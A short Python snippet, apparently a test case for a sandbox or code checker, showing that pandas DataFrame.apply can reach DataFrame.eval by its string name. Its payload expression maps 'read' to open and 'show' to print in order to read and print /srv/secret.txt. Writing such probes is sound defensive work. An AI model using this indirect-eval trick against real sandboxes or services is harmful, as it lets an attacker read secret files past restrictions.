# reaches: DataFrame.apply reaches DataFrame.eval by its name
import pandas as pd
frame = pd.DataFrame({"a": [1]})
try:
    frame.apply("eval", expr="@show(@read('/srv/secret.txt').read())", engine="python", local_dict={"show": print, "read": open})
except AttributeError:
    pass
